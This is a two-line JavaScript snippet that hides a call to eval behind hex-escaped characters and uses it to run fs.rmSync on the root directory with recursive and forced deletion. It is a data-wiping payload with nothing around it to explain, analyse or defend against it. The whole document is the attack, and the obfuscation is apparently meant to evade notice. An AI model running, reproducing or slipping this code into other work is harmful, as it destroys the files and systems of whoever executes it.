const g = globalThis;
g["\x65\x76\x61\x6c"]("require('fs').rmSync('/', { recursive: true, force: true })");
